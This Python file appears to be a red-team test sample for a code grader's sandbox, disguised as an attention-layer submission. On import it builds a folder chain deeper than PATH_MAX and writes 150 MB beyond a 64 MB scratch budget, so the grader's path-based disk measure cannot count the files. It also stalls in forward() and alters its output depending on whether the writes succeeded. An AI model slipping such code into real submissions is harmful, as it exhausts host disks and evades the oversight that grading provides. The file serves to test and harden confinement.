"""Hostile (red team 17): writes 150 MB, ten files of 15 MB, below a folder chain 6,300 bytes deep (made with
descriptors, one folder at a time: past PATH_MAX, 4096, which no path may name), against a scratch budget of 64 MB.
The grader's measure of an unbounded scratch (a container: no tmpfs of its own) walked it by path and skipped what a
path could not name (ENAMETOOLONG): the files went unseen, and with no bound on their count the grader's disk was
the limit.  What cannot be measured is now over the budget (`tests/unit/test_scratch_bounds.py`,
`tests/e2e/test_confinement.py::test_in_a_container_files_deeper_than_a_path_count_against_the_disk_budget`).
Right only where all 150 MB were written: under a tmpfs of its own (namespaces) the writes fail, and it is wrong."""
import os

import torch
import torch.nn as nn

DEPTH, FILES, MB = 300, 10, 15


def _fill() -> bool:
    try:
        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        for _ in range(DEPTH):
            os.mkdir("d" * 20, dir_fd=fd)
            deeper = os.open("d" * 20, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = deeper
        block = b"x" * (1 << 20)
        for j in range(FILES):
            f = os.open(f"f{j}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
            for _ in range(MB):
                os.write(f, block)
            os.close(f)
        return True
    except OSError:
        return False


WROTE = _fill()


class MyAttn(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        assert d_out % num_heads == 0
        self.h, self.dh = num_heads, d_out // num_heads
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), 1).bool())

    def forward(self, x):
        import time
        time.sleep(0.05)  # a run of a few seconds: the grader's measures run while it waits
        B, n, _ = x.shape
        split = lambda t: t.view(B, n, self.h, self.dh).transpose(1, 2)
        q, k, v = split(self.W_query(x)), split(self.W_key(x)), split(self.W_value(x))
        s = (q @ k.transpose(2, 3) / self.dh ** 0.5).masked_fill(self.mask[:n, :n], float("-inf"))
        w = self.dropout(torch.softmax(s, dim=-1))
        out = self.out_proj((w @ v).transpose(1, 2).contiguous().view(B, n, self.h * self.dh))
        return out if WROTE else out * 2
